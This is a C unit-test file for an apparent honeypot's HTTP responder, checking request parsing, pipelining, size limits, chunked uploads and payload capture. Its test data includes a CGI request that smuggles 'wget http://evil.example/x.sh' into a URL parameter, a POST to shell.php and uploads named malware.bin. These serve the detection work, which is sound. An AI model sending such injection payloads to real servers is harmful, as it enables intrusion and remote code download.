/*
 * HTTP responder: transcripts recorded from curl 7.88 against the responder
 * on a loopback listener, plus hand-made requests for the edges (chunked,
 * pipelining, limits, garbage). Each runs whole and one byte at a time.
 */
#include "test_resp_harness.h"

#define NGINX_DATE "Date: Tue, 14 Nov 2023 22:13:20 GMT\r\n"

/* curl -A 'Mozilla/5.0 (sinktrap-test)' http://127.0.0.1:18080/index.html?x=1 */
static const char tx_http_curl[] = "GET /index.html?x=1 HTTP/1.1\r\n"
                                   "Host: 127.0.0.1:18080\r\n"
                                   "User-Agent: Mozilla/5.0 (sinktrap-test)\r\n"
                                   "Accept: */*\r\n"
                                   "\r\n";

/* curl -d 'user=admin&pass=admin123' -H 'Referer: ...' .../cgi-bin/login.cgi */
static const char tx_http_post[] = "POST /cgi-bin/login.cgi HTTP/1.1\r\n"
                                   "Host: 127.0.0.1:18081\r\n"
                                   "User-Agent: curl/7.88.1\r\n"
                                   "Accept: */*\r\n"
                                   "Referer: http://evil.example/\r\n"
                                   "Content-Length: 24\r\n"
                                   "Content-Type: application/x-www-form-urlencoded\r\n"
                                   "\r\n"
                                   "user=admin&pass=admin123";

/* curl -I --http1.0 http://127.0.0.1:18084/ */
static const char tx_http_head[] = "HEAD / HTTP/1.0\r\n"
                                   "Host: 127.0.0.1:18084\r\n"
                                   "User-Agent: curl/7.88.1\r\n"
                                   "Accept: */*\r\n"
                                   "\r\n";

static void run(struct tr_conn *c, const char *tx, const struct resp_config *cfg)
{
	tr_run_both(c, &resp_http, cfg, tx, strlen(tx));
}

static void test_curl_get(void **state)
{
	struct tr_conn c;
	run(&c, tx_http_curl, NULL);
	assert_int_equal(c.act, RESP_CONTINUE);
	const char *o = tr_out(&c);
	static const char head[] = "HTTP/1.1 200 OK\r\nServer: nginx\r\n" NGINX_DATE
	                           "Content-Type: text/html\r\nContent-Length: 615\r\n"
	                           "Connection: keep-alive\r\n\r\n<!DOCTYPE html>\n";
	assert_memory_equal(o, head, strlen(head));
	assert_int_equal(c.out.len, strlen(head) - strlen("<!DOCTYPE html>\n") + 615);

	assert_string_equal(tr_str(&c, "http.hostname"), "127.0.0.1:18080");
	assert_string_equal(tr_str(&c, "http.url"), "/index.html?x=1");
	assert_string_equal(tr_str(&c, "http.http_user_agent"), "Mozilla/5.0 (sinktrap-test)");
	assert_string_equal(tr_str(&c, "http.http_method"), "GET");
	assert_string_equal(tr_str(&c, "http.protocol"), "HTTP/1.1");
	assert_int_equal(tr_int(&c, "http.status"), 200);
	assert_int_equal(tr_int(&c, "http.length"), 615);
	assert_string_equal(tr_str(&c, "http.http_content_type"), "text/html");
	assert_int_equal(tr_count(&c, "http.request_headers"), 3);
	assert_string_equal(tr_elem(&c, "http.request_headers", 1, "name"), "User-Agent");
	assert_string_equal(tr_elem(&c, "http.request_headers", 2, "value"), "*/*");
	assert_null(tr_str(&c, "http_requests"));
	assert_int_equal(c.npl, 0);
	tr_close(&c);
}

static void test_curl_post_body(void **state)
{
	struct tr_conn c;
	run(&c, tx_http_post, NULL);
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].kind, "http_request_body");
	assert_string_equal(c.pl[0].name, "login.cgi");
	assert_string_equal((char *)c.pl[0].data, "user=admin&pass=admin123");
	assert_int_equal(c.pl[0].truncated, 0);
	assert_string_equal(tr_str(&c, "http.http_method"), "POST");
	assert_string_equal(tr_str(&c, "http.http_refer"), "http://evil.example/");
	assert_int_equal(tr_int(&c, "http.request_body_length"), 24);
	assert_true(tr_out_has(&c, "HTTP/1.1 200 OK\r\n"));
	tr_close(&c);
}

static void test_head_http10_closes(void **state)
{
	struct tr_conn c;
	run(&c, tx_http_head, NULL);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_string_equal(tr_out(&c), "HTTP/1.1 200 OK\r\nServer: nginx\r\n" NGINX_DATE
	                                "Content-Type: text/html\r\nContent-Length: 615\r\n"
	                                "Connection: close\r\n\r\n");
	assert_string_equal(tr_str(&c, "http.protocol"), "HTTP/1.0");
	tr_close(&c);
}

static void test_expect_continue(void **state)
{
	struct tr_conn c;
	run(&c,
	    "PUT /x.bin HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nExpect: "
	    "100-continue\r\n\r\n"
	    "abc",
	    NULL);
	const char *o = tr_out(&c);
	assert_memory_equal(o, "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n", 42);
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].name, "x.bin");
	tr_close(&c);
}

static void test_chunked_body(void **state)
{
	struct tr_conn c;
	run(&c,
	    "POST /shell.php HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n"
	    "5\r\nhello\r\n6;ext=1\r\n world\r\n0\r\nX-Trailer: 1\r\n\r\n",
	    NULL);
	assert_int_equal(c.act, RESP_CONTINUE);
	assert_int_equal(c.npl, 1);
	assert_string_equal((char *)c.pl[0].data, "hello world");
	assert_int_equal(tr_int(&c, "http.request_body_length"), 11);
	/* trailers are not request headers */
	assert_int_equal(tr_count(&c, "http.request_headers"), 2);
	tr_close(&c);
}

static void test_pipelined(void **state)
{
	struct tr_conn c;
	run(&c,
	    "GET /a HTTP/1.1\r\nHost: h\r\n\r\n"
	    "\r\n" /* a stray CRLF between requests is allowed */
	    "POST /b HTTP/1.1\r\nHost: h\r\nContent-Length: 2\r\n\r\nok"
	    "GET /c HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n",
	    NULL);
	assert_int_equal(c.act, RESP_CLOSE);
	const char *o = tr_out(&c);
	int n = 0;
	for (const char *p = o; (p = strstr(p, "HTTP/1.1 200 OK")) != NULL; p++)
		n++;
	assert_int_equal(n, 3);
	assert_int_equal(tr_count(&c, "http_requests"), 3);
	assert_string_equal(tr_elem(&c, "http_requests", 1, "url"), "/b");
	assert_string_equal(tr_elem(&c, "http_requests", 2, "url"), "/c");
	assert_string_equal(tr_str(&c, "http.url"), "/a");
	tr_close(&c);
}

static void test_keepalive_bound(void **state)
{
	char tx[2048] = "";
	for (int i = 0; i < 10; i++)
		strcat(tx, "GET / HTTP/1.1\r\nHost: h\r\n\r\n");
	struct tr_conn c;
	run(&c, tx, NULL);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_int_equal(tr_count(&c, "http_requests"), 8);
	/* the eighth answer announces the close */
	const char *last = strstr(tr_out(&c), "Connection: close");
	assert_non_null(last);
	assert_null(strstr(last + 1, "HTTP/1.1 200"));
	tr_close(&c);
}

static void test_configured_page(void **state)
{
	static const uint8_t body[] = "#!/bin/sh\necho harmless\n";
	struct resp_config cfg = {0};
	cfg.http.body = body;
	cfg.http.body_len = sizeof(body) - 1;
	cfg.http.content_type = "text/x-sh";
	cfg.banner = "Apache/2.4.57 (Debian)";
	struct tr_conn c;
	run(&c, "GET /bins/x86 HTTP/1.1\r\nHost: h\r\n\r\n", &cfg);
	assert_string_equal(tr_out(&c),
	                    "HTTP/1.1 200 OK\r\nServer: Apache/2.4.57 (Debian)\r\n" NGINX_DATE
	                    "Content-Type: text/x-sh\r\nContent-Length: 24\r\n"
	                    "Connection: keep-alive\r\n\r\n#!/bin/sh\necho harmless\n");
	tr_close(&c);

	struct resp_config cfg404 = {0};
	cfg404.http.status = 404;
	run(&c, "GET /nope HTTP/1.1\r\nHost: h\r\n\r\n", &cfg404);
	assert_true(tr_out_has(&c, "HTTP/1.1 404 Not Found\r\n"));
	assert_true(
	    tr_out_has(&c, "<center><h1>404 Not Found</h1></center>\r\n<hr><center>nginx"));
	assert_int_equal(tr_int(&c, "http.status"), 404);
	tr_close(&c);
}

static const struct {
	const char *name;
	const char *tx;
	const char *status_line;
} errors[] = {
    {"bad version", "GET / FOO/1.1\r\n\r\n", "HTTP/1.1 400 Bad Request\r\n"},
    {"too many words", "GET /a b HTTP/1.1\r\n\r\n", "HTTP/1.1 400 Bad Request\r\n"},
    {"bad method", "G(T / HTTP/1.1\r\n\r\n", "HTTP/1.1 400 Bad Request\r\n"},
    {"h2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
     "HTTP/1.1 505 HTTP Version Not Supported\r\n"},
    {"bad length", "POST / HTTP/1.1\r\nContent-Length: 1x\r\n\r\n",
     "HTTP/1.1 400 Bad Request\r\n"},
    {"two lengths", "POST / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
     "HTTP/1.1 400 Bad Request\r\n"},
    {"huge length", "POST / HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n",
     "HTTP/1.1 413 Request Entity Too Large\r\n"},
    {"bad chunk", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
     "HTTP/1.1 400 Bad Request\r\n"},
    {"chunk crlf", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nab\r\n",
     "HTTP/1.1 400 Bad Request\r\n"},
    {"unknown te", "POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n",
     "HTTP/1.1 501 Not Implemented\r\n"},
};

static void test_errors_close(void **state)
{
	for (size_t i = 0; i < sizeof(errors) / sizeof(errors[0]); i++) {
		struct tr_conn c;
		run(&c, errors[i].tx, NULL);
		if (c.act != RESP_CLOSE || strncmp(tr_out(&c), errors[i].status_line,
		                                   strlen(errors[i].status_line)) != 0)
			fail_msg("%s: got %d %.60s", errors[i].name, c.act, tr_out(&c));
		assert_true(tr_out_has(&c, "Connection: close\r\n"));
		tr_close(&c);
	}
}

static void test_limits(void **state)
{
	struct tr_conn c;
	/* request line past 8 KiB */
	char *big = malloc(20000);
	memset(big, 'A', 19990);
	memcpy(big, "GET /", 5);
	strcpy(big + 19990, "\r\n\r\n");
	run(&c, big, NULL);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_true(tr_out_has(&c, "HTTP/1.1 414 Request-URI Too Large\r\n"));
	assert_int_equal(strlen(tr_str(&c, "http.request_line")), 512);
	tr_close(&c);

	/* more than 100 headers */
	strcpy(big, "GET / HTTP/1.1\r\n");
	for (int i = 0; i < 120; i++)
		sprintf(big + strlen(big), "X-H%d: v\r\n", i);
	strcat(big, "\r\n");
	run(&c, big, NULL);
	assert_true(tr_out_has(&c, "HTTP/1.1 400 Bad Request\r\n"));
	assert_int_equal(tr_count(&c, "http.request_headers"), 32);
	tr_close(&c);

	/* a header line past 8 KiB */
	strcpy(big, "GET / HTTP/1.1\r\nCookie: ");
	memset(big + strlen(big), 'c', 9000);
	strcpy(big + 24 + 9000, "\r\n\r\n");
	run(&c, big, NULL);
	assert_true(tr_out_has(&c, "HTTP/1.1 400 Bad Request\r\n"));
	tr_close(&c);
	free(big);
}

static void test_http09(void **state)
{
	struct tr_conn c;
	run(&c, "GET /\r\n", NULL);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_memory_equal(tr_out(&c), "<!DOCTYPE html>", 15);
	assert_int_equal(c.out.len, 615);
	tr_close(&c);
}

static void test_slowloris_and_timeout(void **state)
{
	struct tr_conn c;
	tr_open(&c, &resp_http, NULL);
	tr_start(&c);
	assert_int_equal(c.out.len, 0);
	assert_int_equal(tr_feeds(&c, "GET / HTTP/1.1\r\nHost: x\r\nX-a: b", 1),
	                 RESP_NEED_MORE);
	assert_int_equal(c.out.len, 0);
	assert_int_equal(c.r->timeout(c.st, &c.out), RESP_CLOSE);
	assert_int_equal(c.out.len, 0);
	assert_string_equal(tr_str(&c, "http.http_method"), "GET");
	assert_int_equal(tr_int(&c, "http.status"), -1);
	tr_close(&c);
}

static void test_body_cut_short(void **state)
{
	struct tr_conn c;
	tr_open(&c, &resp_http, NULL);
	tr_start(&c);
	assert_int_equal(tr_feeds(&c, "POST /up HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc", 0),
	                 RESP_NEED_MORE);
	tr_render(&c);
	assert_int_equal(c.npl, 1);
	assert_string_equal((char *)c.pl[0].data, "abc");
	assert_int_equal(tr_int(&c, "http.request_body_length"), 3);
	tr_close(&c);
}

/* What the worker's memory budget reads: the body being collected and the
 * replies held count while the connection lives, and nothing after. */
static void test_memory_held(void **state)
{
	size_t before = resp_mem_held();
	static uint8_t chunk[100000];
	memset(chunk, 'x', sizeof(chunk));
	struct tr_conn c;
	tr_open(&c, &resp_http, NULL);
	tr_start(&c);
	tr_feeds(&c, "POST /up HTTP/1.1\r\nContent-Length: 1000000\r\n\r\n", 0);
	for (int i = 0; i < 5; i++)
		tr_feed(&c, chunk, sizeof(chunk), 0);
	assert_true(resp_mem_held() >= before + 500000);
	tr_render(&c);
	tr_close(&c);
	assert_int_equal(resp_mem_held(), before);
}

/* A body past payload_max: read to its end, its first payload_max bytes kept
 * and marked truncated, its whole length reported, then a 413. */
static void test_big_body_content_length(void **state)
{
	struct resp_config cfg = {0};
	cfg.max_payload = 1000;
	char body[3000];
	memset(body, 'C', sizeof(body));
	memcpy(body, "MZ", 2);
	char tx[4096];
	int hl = snprintf(tx, sizeof(tx),
	                  "POST /upload/big.exe HTTP/1.1\r\nHost: x\r\nContent-Length: %zu\r\n"
	                  "Expect: 100-continue\r\n\r\n",
	                  sizeof(body));
	memcpy(tx + hl, body, sizeof(body));
	struct tr_conn c;
	tr_run_both(&c, &resp_http, &cfg, tx, (size_t)hl + sizeof(body));
	assert_int_equal(c.act, RESP_CLOSE);
	assert_true(tr_out_has(&c, "HTTP/1.1 100 Continue\r\n\r\n"
	                           "HTTP/1.1 413 Request Entity Too Large\r\n"));
	assert_true(tr_out_has(&c, "Connection: close\r\n"));
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].kind, "http_request_body");
	assert_string_equal(c.pl[0].name, "big.exe");
	assert_int_equal(c.pl[0].len, 1000);
	assert_memory_equal(c.pl[0].data, body, 1000);
	assert_int_equal(c.pl[0].truncated, 1);
	assert_int_equal(tr_int(&c, "http.request_body_length"), 3000);
	assert_int_equal(tr_int(&c, "http.status"), 413);
	tr_close(&c);

	/* nothing is answered before the body has been read */
	tr_open(&c, &resp_http, &cfg);
	assert_int_equal(tr_feed(&c, tx, (size_t)hl + 2000, 0), RESP_NEED_MORE);
	assert_string_equal(tr_out(&c), "HTTP/1.1 100 Continue\r\n\r\n");
	/* cut short past payload_max (max_bytes, the client gone): still kept */
	tr_render(&c);
	assert_int_equal(c.npl, 1);
	assert_int_equal(c.pl[0].len, 1000);
	assert_int_equal(c.pl[0].truncated, 1);
	assert_int_equal(tr_int(&c, "http.request_body_length"), 2000);
	tr_close(&c);

	/* a body of exactly payload_max is whole and answered 200 */
	hl = snprintf(tx, sizeof(tx),
	              "PUT /ok.bin HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n");
	memcpy(tx + hl, body, 1000);
	tr_run_both(&c, &resp_http, &cfg, tx, (size_t)hl + 1000);
	assert_int_equal(c.act, RESP_CONTINUE);
	assert_true(tr_out_has(&c, "HTTP/1.1 200 OK\r\n"));
	assert_int_equal(c.npl, 1);
	assert_int_equal(c.pl[0].len, 1000);
	assert_int_equal(c.pl[0].truncated, 0);
	tr_close(&c);
}

static void test_big_body_chunked(void **state)
{
	struct resp_config cfg = {0};
	cfg.max_payload = 1000;
	static char tx[8192];
	int n = snprintf(tx, sizeof(tx),
	                 "POST /upload/malware.bin HTTP/1.1\r\nHost: x\r\n"
	                 "Transfer-Encoding: chunked\r\n\r\n");
	for (int i = 0; i < 3; i++) {
		n += snprintf(tx + n, sizeof(tx) - (size_t)n, "3e8\r\n");
		memset(tx + n, 'A' + i, 1000);
		n += 1000;
		n += snprintf(tx + n, sizeof(tx) - (size_t)n, "\r\n");
	}
	n += snprintf(tx + n, sizeof(tx) - (size_t)n, "0\r\n\r\n");
	struct tr_conn c;
	tr_run_both(&c, &resp_http, &cfg, tx, (size_t)n);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_true(tr_out_has(&c, "HTTP/1.1 413 Request Entity Too Large\r\n"));
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].name, "malware.bin");
	assert_int_equal(c.pl[0].len, 1000);
	assert_int_equal(c.pl[0].data[999], 'A');
	assert_int_equal(c.pl[0].truncated, 1);
	assert_int_equal(tr_int(&c, "http.request_body_length"), 3000);
	assert_int_equal(tr_int(&c, "http.status"), 413);
	tr_close(&c);

	/* a chunk announced far larger is read as it comes, until the end */
	static const char huge[] = "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
	                           "fffffffffff\r\n";
	tr_open(&c, &resp_http, &cfg);
	assert_int_equal(tr_feeds(&c, huge, 0), RESP_NEED_MORE);
	tr_feed(&c, tx + 200, 1500, 0);
	assert_int_equal(c.out.len, 0);
	tr_render(&c);
	assert_int_equal(c.npl, 1);
	assert_int_equal(c.pl[0].len, 1000);
	assert_int_equal(c.pl[0].truncated, 1);
	assert_int_equal(tr_int(&c, "http.request_body_length"), 1500);
	tr_close(&c);
}

/* Every header object of request i has its name and value. */
static void assert_headers_whole(struct tr_conn *c, const char *path)
{
	int n = tr_count(c, path);
	for (int k = 0; k < n; k++) {
		if (tr_elem(c, path, k, "name") == NULL || tr_elem(c, path, k, "value") == NULL)
			fail_msg("%s[%d] lacks its name or value", path, k);
	}
}

/* The reviewer's transcript: four requests of 32 large headers, then the
 * one that matters. Every request is recorded, within the budget. */
static void test_fields_budget_keeps_every_request(void **state)
{
	static char tx[80000];
	char pad[20000];
	int n = snprintf(pad, sizeof(pad), "GET /pad HTTP/1.1\r\nHost: x\r\n");
	for (int i = 0; i < 31; i++) {
		n += snprintf(pad + n, sizeof(pad) - (size_t)n, "X-P%02d: ", i);
		memset(pad + n, 'A', 510);
		n += 510;
		n += snprintf(pad + n, sizeof(pad) - (size_t)n, "\r\n");
	}
	snprintf(pad + n, sizeof(pad) - (size_t)n, "\r\n");
	tx[0] = 0;
	for (int i = 0; i < 4; i++)
		strcat(tx, pad);
	strcat(tx, "POST /cgi-bin/EXPLOIT.cgi?cmd=wget+http://evil.example/x.sh HTTP/1.1\r\n"
	           "Host: victim\r\nUser-Agent: EVILBOT\r\nContent-Length: 5\r\n"
	           "Connection: close\r\n\r\nHELLO");
	struct tr_conn c;
	run(&c, tx, NULL);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_true(tr_fields_len(&c) <= 40 * 1024);
	assert_int_equal(tr_count(&c, "http_requests"), 5);
	assert_string_equal(tr_elem(&c, "http_requests", 4, "url"),
	                    "/cgi-bin/EXPLOIT.cgi?cmd=wget+http://evil.example/x.sh");
	assert_string_equal(tr_elem(&c, "http_requests", 4, "http_user_agent"), "EVILBOT");
	assert_string_equal(tr_elem(&c, "http_requests", 4, "hostname"), "victim");
	assert_string_equal(tr_elem(&c, "http_requests", 4, "http_method"), "POST");
	for (int i = 0; i < 4; i++)
		assert_string_equal(tr_elem(&c, "http_requests", i, "url"), "/pad");
	assert_headers_whole(&c, "http.request_headers");
	/* some pad headers were not kept, and that is said */
	struct ev_field f;
	int dropped = 0;
	struct ev_reader r;
	ev_reader_init(&r, c.ev.data, c.ev.len);
	while (ev_reader_next(&r, &f))
		if (f.kind == EV_INT && f.keylen == 17 &&
		    memcmp(f.key, "headers_truncated", 17) == 0)
			dropped += (int)f.i;
	assert_true(dropped > 0);
	assert_int_equal(c.npl, 1);
	assert_string_equal((char *)c.pl[0].data, "HELLO");
	tr_close(&c);
}

/* The worst a client can send: eight requests with long URLs, a hundred
 * headers of long binary values, Host and User-Agent last. */
static void test_fields_budget_worst_case(void **state)
{
	size_t cap = 8 * 70000;
	char *tx = malloc(cap);
	size_t n = 0;
	for (int q = 0; q < 8; q++) {
		n += (size_t)snprintf(tx + n, cap - n, "GET /%d", q);
		memset(tx + n, 'u', 3000);
		n += 3000;
		n += (size_t)snprintf(tx + n, cap - n, " HTTP/1.1\r\n");
		for (int i = 0; i < 98; i++) {
			n += (size_t)snprintf(tx + n, cap - n, "X-%02d-", i);
			memset(tx + n, 'n', 40);
			n += 40;
			tx[n++] = ':';
			tx[n++] = ' ';
			for (int k = 0; k < 600; k++)
				tx[n++] = (char)(0x80 + (k + i) % 0x7f);
			tx[n++] = '\r';
			tx[n++] = '\n';
		}
		n += (size_t)snprintf(tx + n, cap - n, "Host: host-%d.", q);
		memset(tx + n, 'h', 600);
		n += 600;
		n += (size_t)snprintf(tx + n, cap - n, "\r\nUser-Agent: agent-%d/", q);
		memset(tx + n, 'a', 600);
		n += 600;
		n += (size_t)snprintf(tx + n, cap - n, "\r\n\r\n");
	}
	struct tr_conn c;
	tr_run_both(&c, &resp_http, NULL, tx, n);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_true(tr_fields_len(&c) <= 40 * 1024);
	assert_int_equal(tr_count(&c, "http_requests"), 8);
	for (int q = 0; q < 8; q++) {
		char want[32];
		const char *v = tr_elem(&c, "http_requests", q, "url");
		snprintf(want, sizeof(want), "/%duuu", q);
		assert_non_null(v);
		assert_memory_equal(v, want, strlen(want));
		v = tr_elem(&c, "http_requests", q, "hostname");
		snprintf(want, sizeof(want), "host-%d.hhh", q);
		assert_non_null(v);
		assert_memory_equal(v, want, strlen(want));
		v = tr_elem(&c, "http_requests", q, "http_user_agent");
		snprintf(want, sizeof(want), "agent-%d/aaa", q);
		assert_non_null(v);
		assert_memory_equal(v, want, strlen(want));
		assert_string_equal(tr_elem(&c, "http_requests", q, "protocol"), "HTTP/1.1");
	}
	/* the last requests' long values were cut to fit, and say so */
	const char *u = tr_elem(&c, "http_requests", 7, "url");
	assert_string_equal(u + strlen(u) - 5, "[...]");
	assert_headers_whole(&c, "http.request_headers");
	tr_close(&c);
	free(tx);
}

/* What is recorded counts in the worker's memory budget while the
 * connection lives, and is given back, all of it, when it ends. */
static void test_fields_memory_counted(void **state)
{
	char tx[8192];
	size_t before = resp_mem_held();
	struct tr_conn c;
	tr_open(&c, &resp_http, NULL);
	for (int q = 0; q < 7; q++) {
		int n = snprintf(tx, sizeof(tx), "GET /%d HTTP/1.1\r\nHost: h\r\n", q);
		for (int i = 0; i < 8; i++) {
			n += snprintf(tx + n, sizeof(tx) - (size_t)n, "X-%d: ", i);
			memset(tx + n, 'v', 400);
			n += 400;
			n += snprintf(tx + n, sizeof(tx) - (size_t)n, "\r\n");
		}
		n += snprintf(tx + n, sizeof(tx) - (size_t)n, "X-Fold: a\r\n b\r\n\r\n");
		tr_feed(&c, tx, (size_t)n, 0);
	}
	/* 7 x 8 values of 400 bytes, besides the replies */
	assert_true(resp_mem_held() - c.out.cap - before >= 7 * 8 * 400);
	tr_render(&c);
	assert_string_equal(tr_elem(&c, "http.request_headers", 9, "name"), "X-Fold");
	assert_string_equal(tr_elem(&c, "http.request_headers", 9, "value"), "a b");
	c.r->destroy(c.st);
	c.st = NULL;
	assert_int_equal(resp_mem_held() - c.out.cap, before);
	resp_out_free(&c.out);
	evbuf_free(&c.ev);
}

static void test_garbage(void **state)
{
	uint8_t junk[4096];
	uint32_t x = 12345;
	for (int round = 0; round < 50; round++) {
		for (size_t i = 0; i < sizeof(junk); i++) {
			x = x * 1103515245 + 12345;
			junk[i] = (uint8_t)(x >> 16);
		}
		struct tr_conn c;
		tr_run_both(&c, &resp_http, NULL, junk, sizeof(junk));
		assert_true(c.act == RESP_CLOSE || c.act == RESP_NEED_MORE);
		tr_close(&c);
	}
}

static void test_lookup(void **state)
{
	assert_ptr_equal(resp_lookup(TRAP_PROTO_HTTP), &resp_http);
	assert_ptr_equal(resp_lookup(TRAP_PROTO_HTTP2), &resp_http);
	assert_ptr_equal(resp_lookup(TRAP_PROTO_SMTP), &resp_smtp);
	assert_ptr_equal(resp_lookup(TRAP_PROTO_FTP), &resp_ftp);
	assert_ptr_equal(resp_lookup(TRAP_PROTO_POP3), &resp_pop3);
	assert_ptr_equal(resp_lookup(TRAP_PROTO_IMAP), &resp_imap);
	assert_ptr_equal(resp_lookup(TRAP_PROTO_IRC), &resp_irc);
	assert_ptr_equal(resp_lookup(TRAP_PROTO_TELNET), &resp_telnet);
	assert_ptr_equal(resp_lookup(TRAP_PROTO_UNKNOWN), &resp_generic);
	assert_ptr_equal(resp_lookup(TRAP_PROTO_RDP), &resp_generic);
	assert_ptr_equal(resp_lookup((enum trap_proto)999), &resp_generic);
}

static void test_out_bound(void **state)
{
	struct resp_out o;
	resp_out_init(&o, 10);
	assert_int_equal(resp_out_puts(&o, "12345"), 0);
	assert_int_equal(resp_out_puts(&o, "6789012"), -ENOBUFS);
	assert_int_equal(o.len, 10);
	assert_true(o.overflow);
	resp_out_consume(&o, 4);
	assert_memory_equal(o.data, "567890", 6);
	resp_out_consume(&o, 100);
	assert_int_equal(o.len, 0);
	resp_out_free(&o);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_curl_get),
	    cmocka_unit_test(test_curl_post_body),
	    cmocka_unit_test(test_head_http10_closes),
	    cmocka_unit_test(test_expect_continue),
	    cmocka_unit_test(test_chunked_body),
	    cmocka_unit_test(test_pipelined),
	    cmocka_unit_test(test_keepalive_bound),
	    cmocka_unit_test(test_configured_page),
	    cmocka_unit_test(test_errors_close),
	    cmocka_unit_test(test_limits),
	    cmocka_unit_test(test_http09),
	    cmocka_unit_test(test_slowloris_and_timeout),
	    cmocka_unit_test(test_body_cut_short),
	    cmocka_unit_test(test_memory_held),
	    cmocka_unit_test(test_big_body_content_length),
	    cmocka_unit_test(test_big_body_chunked),
	    cmocka_unit_test(test_fields_budget_keeps_every_request),
	    cmocka_unit_test(test_fields_budget_worst_case),
	    cmocka_unit_test(test_fields_memory_counted),
	    cmocka_unit_test(test_garbage),
	    cmocka_unit_test(test_lookup),
	    cmocka_unit_test(test_out_bound),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
